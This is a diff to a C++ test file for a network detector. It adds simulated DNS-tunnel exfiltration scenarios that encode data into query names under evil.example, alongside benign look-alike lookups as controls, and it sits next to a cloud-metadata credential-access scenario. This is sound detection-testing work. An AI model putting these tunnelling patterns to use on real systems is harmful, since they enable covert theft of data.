@@ -2,6 +2,7 @@
 // Whom processes call, and what policies say of it.
 #include <unistd.h>
 
+#include <random>
 #include <string>
 
 #include "tests/scenarios/stage.h"
@@ -39,6 +40,25 @@ spec:
   egress: {default: deny, allow: [{cidr: 169.254.169.254/32}]}
 )";
 
+// Random characters of an alphabet, as an encoder of encrypted data makes them.
+class Encoded {
+ public:
+  explicit Encoded(const char* alphabet) : alphabet_(alphabet) {}
+  std::string operator()(size_t length) {
+    std::string text;
+    while (text.size() < length) {
+      text += alphabet_[random_() % alphabet_.size()];
+    }
+    return text;
+  }
+
+ private:
+  std::string alphabet_;
+  std::mt19937 random_{7};
+};
+constexpr const char* kHex = "0123456789abcdef";
+constexpr const char* kBase32 = "abcdefghijklmnopqrstuvwxyz234567";
+
 std::string Neighbour(int number) { return "10.66.1." + std::to_string(number); }
 
 const Scenario kAll[] = {
@@ -65,6 +85,57 @@ const Scenario kAll[] = {
        for (int i = 0; i < 30; ++i) {
          Send(kStore, 443, 1000);
          Send(kOutside, 443, 1000);
+       }
+     }},
+    {"tunnel", FindingKind::kDnsTunnel, kAttack, "sends a file in the names of DNS questions",
+     [](const Site&) {
+       Encoded encoded(kBase32);
+       for (int i = 0; i < 120; ++i) {
+         Ask(kStore, encoded(60) + "." + encoded(60) + ".t.evil.example");
+       }
+     }},
+    {"tunnel-by-children", FindingKind::kDnsTunnel, kAttack, "the same in hexadecimal, a process and a resolver for each",
+     [](const Site&) {
+       Encoded encoded(kHex);
+       for (int i = 0; i < 80; ++i) {
+         InChild(
+             [&, name = std::to_string(i) + "." + encoded(48) + ".evil.example"] { Ask(i % 2 != 0 ? kStore : kOutside, name); });
+       }
+     }},
+    {"tunnel-of-words", FindingKind::kDnsTunnel, kAttack, "the same as words: by volume",
+     [](const Site&) {
+       for (int i = 0; i < 700; ++i) {
+         std::string name;
+         for (int word = 0, rest = i * 7919; word < 12; ++word, rest = rest / 7 + i) {
+           static constexpr const char* kWords[] = {"apple", "river", "table", "cloud", "stone", "paper", "horse"};
+           name += std::string(kWords[rest % 7]) + kWords[(rest + word) % 7] + (word % 4 == 3 ? "." : "");
+         }
+         Ask(kStore, std::to_string(i) + "." + name + "evil.example");
+       }
+     }},
+    {"services", FindingKind::kDnsTunnel, kOrdinary, "looks up its cluster's services by all search paths, and hosts backwards",
+     [](const Site&) {
+       for (int i = 0; i < 100; ++i) {
+         for (const char* path : {".prod.svc.cluster.local", ".svc.cluster.local", ".cluster.local", ".eu.corp.example", ""}) {
+           Ask(kStore, "inference-worker-" + std::to_string(i) + ".headless-model-server" + path);
+         }
+         Ask(kStore, std::to_string(i) + ".1.66.10.in-addr.arpa");
+       }
+     }},
+    {"content-network", FindingKind::kDnsTunnel, kOrdinary, "asks for a few random names of a content network again and again",
+     [](const Site&) {
+       for (int round = 0; round < 50; ++round) {
+         Encoded encoded(kHex);  // the same each round
+         for (int i = 0; i < 20; ++i) {
+           Ask(kStore, encoded(40) + ".cdn.example");
+         }
+       }
+     }},
+    {"many-hosts", FindingKind::kDnsTunnel, kOrdinary, "asks for many hosts of many domains",
+     [](const Site&) {
+       Encoded encoded(kHex);
+       for (int i = 0; i < 400; ++i) {
+         Ask(kStore, encoded(32) + ".host" + std::to_string(i) + ".example");
        }
      }},
     {"credentials", FindingKind::kMetadataAccess, kAttack, "asks the cloud for the machine's credentials",
